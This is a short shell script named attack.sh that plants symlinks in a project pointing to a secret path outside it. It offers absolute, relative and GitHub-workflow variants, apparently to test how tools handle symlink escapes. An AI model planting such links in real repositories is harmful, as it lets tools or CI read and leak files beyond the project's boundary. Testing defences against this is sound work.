#!/bin/sh
# Lay a link in this project that leads out of it: attack.sh absolute|relative|workflow SECRET
set -eu
case $1 in
absolute) ln -s "$2" notes.txt ;;
relative) ln -s "../$(basename "$2")" notes.txt ;;
workflow) mkdir -p .github/workflows && ln -s "$2" .github/workflows/build.yml ;;
esac
